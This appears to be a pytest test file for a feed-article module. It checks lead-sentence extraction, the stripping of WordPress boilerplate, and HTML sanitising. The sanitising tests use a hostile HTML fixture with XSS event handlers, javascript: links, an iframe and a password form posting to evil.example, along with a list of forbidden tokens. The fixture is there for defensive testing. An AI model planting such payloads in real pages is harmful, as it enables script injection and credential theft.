@@ -1,0 +1,167 @@
+"""Article content: the lead is the story's first sentences, never the site's boilerplate; HTML is made harmless."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from syndicate import content
+
+SEED = Path("/work/shared/samples/seed-article.txt")
+
+FIRST_TWO_SENTENCES = (
+    "The Joint U.S.-Armenian military exercises began this week in Yerevan, Armenia’s capital, "
+    "resulting in tension with Russia, which sees Armenia as its regional ally. "
+    "The drills involve 175 Armenian and 85 U.S. soldiers, including members of the Kansas National "
+    "Guard, and are aimed at training Armenia’s military for international peacekeeping operations."
+)
+
+
+@pytest.fixture
+def seed_blocks() -> dict[str, object]:
+    """The seed article cut into what a WordPress page puts one after the other."""
+    blocks = [" ".join(b.split()) for b in re.split(r"\n\s*\n", SEED.read_text()) if b.strip()]
+    section, title, body, source, bio, reply = blocks
+    assert (section, source, reply) == ("World News", "Source link", "Leave a Reply")
+    assert bio.startswith("I'm TruthUSA, the author behind")
+    return {"title": title, "body": [body], "tail": [source, bio, reply]}
+
+
+def test_it_leads_with_the_first_two_sentences_of_the_seed_article_in_html(seed_blocks):
+    html = "".join(f"<p>{block}</p>" for block in seed_blocks["body"])
+    html += '<p><a href="https://www.reuters.com/x">Source link</a></p>'
+    html += f'<div class="author-box"><img src="https://truthusa.example/a.png"><p>{seed_blocks["tail"][1]}</p></div>'
+    html += '<h3 id="reply-title">Leave a Reply</h3>'
+
+    assert content.lead(html) == FIRST_TWO_SENTENCES
+
+
+def test_it_leads_with_the_first_two_sentences_of_the_seed_article_in_plain_text(seed_blocks):
+    text = "\n\n".join(seed_blocks["body"] + seed_blocks["tail"])
+
+    assert content.lead(text) == FIRST_TWO_SENTENCES
+
+
+def test_it_stops_the_story_at_the_source_link_and_the_author_bio(seed_blocks):
+    text = "\n\n".join(seed_blocks["body"] + seed_blocks["tail"])
+
+    story = content.story_text(text)
+
+    assert story == seed_blocks["body"]
+    assert not any("TruthUSA" in block or "Leave a Reply" in block for block in story)
+
+
+def test_it_takes_the_lead_across_paragraphs_when_the_first_is_one_sentence():
+    html = "<p>Crème &amp; Crumb won the award.</p><p>Owner Zoë Martínez plans a second shop. It opens in May.</p>"
+
+    assert content.lead(html) == "Crème & Crumb won the award. Owner Zoë Martínez plans a second shop."
+
+
+def test_it_takes_the_lead_from_plain_text_split_on_blank_lines_with_spaces_or_crlf():
+    text = "First paragraph says one thing.\r\n  \r\nSecond paragraph adds another. And a third.\n\nSource link"
+
+    assert content.lead(text) == "First paragraph says one thing. Second paragraph adds another."
+
+
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("U.S. officials met on Monday. They agreed. Nothing else.", "U.S. officials met on Monday. They agreed."),
+        ("Dr. Smith spoke first. Mr. Jones replied. Then they left.", "Dr. Smith spoke first. Mr. Jones replied."),
+        ("The U.S. Army moved in. Prof. Lee watched. Later more.", "The U.S. Army moved in. Prof. Lee watched."),
+        ("She met J. Doe in St. Louis. It rained. It stopped.", "She met J. Doe in St. Louis. It rained."),
+        ("Gov. Newsom signed it in Jan. and Sen. Padilla agreed. It passed. Later.",
+         "Gov. Newsom signed it in Jan. and Sen. Padilla agreed. It passed."),
+    ],
+)
+def test_it_does_not_end_a_sentence_at_an_abbreviation(text, expected):
+    assert content.lead(f"<p>{text}</p>") == expected
+
+
+def test_it_ends_a_sentence_at_a_single_digit():
+    html = "<p>The council voted 7 to 2. The library will open in 2025. Work starts soon.</p>"
+
+    assert content.lead(html) == "The council voted 7 to 2. The library will open in 2025."
+
+
+def test_it_ends_sentences_at_question_and_exclamation_marks_and_closing_quotes():
+    html = "<p>Who won? “We did!” she said. The end came later.</p>"
+
+    assert content.sentences(content.plain_text(html)) == ["Who won?", "“We did!” she said.", "The end came later."]
+    assert content.lead(html) == "Who won? “We did!” she said."
+
+
+def test_it_leaves_the_appeared_first_on_line_out_of_the_lead():
+    html = ('<p>Only one sentence in this story.</p>'
+            '<p>The post <a href="https://site.example/x">A Story</a> appeared first on '
+            '<a href="https://site.example">Site News</a>.</p>')
+
+    assert content.lead(html) == "Only one sentence in this story."
+
+
+def test_it_leaves_continue_reading_out_of_the_lead():
+    html = ('<p>Only one sentence in this story.</p>'
+            '<p><a href="https://site.example/x#more-1" class="more-link">Continue reading →</a></p>')
+
+    assert content.lead(html) == "Only one sentence in this story."
+
+
+@pytest.mark.parametrize("boilerplate", ["Share this:", "Related posts", "Leave a comment", "Read more: elsewhere",
+                                         "You may also like"])
+def test_it_leaves_other_wordpress_boilerplate_out_of_the_lead(boilerplate):
+    assert content.lead(f"<p>The story itself.</p><p>{boilerplate}</p><p>Not the story.</p>") == "The story itself."
+
+
+def test_it_gives_an_empty_lead_when_there_is_no_story():
+    assert content.lead("<p>The post X appeared first on Y.</p>") == ""
+    assert content.lead("") == ""
+
+
+def test_it_leaves_scripts_and_captions_out_of_the_lead():
+    html = ("<script>var s = 'Not. The. Lead.';</script><style>p { color: red }</style>"
+            "<figure><img src='https://x.example/a.jpg'><figcaption>A caption. Another.</figcaption></figure>"
+            "<p>Real first sentence. Real second sentence. Third.</p>")
+
+    assert content.lead(html) == "Real first sentence. Real second sentence."
+
+
+def test_it_keeps_the_lead_short_when_sentences_are_long():
+    first = "A" + " very" * 60 + " long first sentence."
+    second = "Then" + " another" * 60 + " long one."
+
+    lead = content.lead(f"<p>{first} {second}</p>")
+
+    assert lead == first
+    assert len(lead) <= 400
+
+
+# ── sanitising ───────────────────────────────────────────────────────────────
+
+HOSTILE = (
+    '<p onclick="steal()">Read <a href="https://news.example/story" onmouseover="track()">the story</a> '
+    'or <a href="javascript:alert(1)">this</a> or <a href="JaVaScRiPt:alert(2)">that</a>.</p>'
+    '<img src="https://news.example/photo.jpg" alt="A photo" onerror="pwn()">'
+    "<script>alert('x')</script>"
+    "<style>body { display: none }</style>"
+    '<iframe src="https://evil.example/frame"></iframe>'
+    '<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>'
+)
+
+
+def test_it_removes_everything_that_runs_from_feed_html():
+    clean = content.sanitise(HOSTILE).lower()
+
+    for forbidden in ("<script", "alert(", "<style", "display: none", "<iframe", "evil.example", "<form",
+                      "<input", "onclick", "onmouseover", "onerror", "javascript:"):
+        assert forbidden not in clean
+
+
+def test_it_keeps_paragraphs_links_and_images_when_sanitising():
+    clean = content.sanitise(HOSTILE)
+
+    assert clean.startswith("<p>")
+    assert '<a href="https://news.example/story"' in clean
+    assert ">the story</a>" in clean
+    assert '<img src="https://news.example/photo.jpg" alt="A photo">' in clean
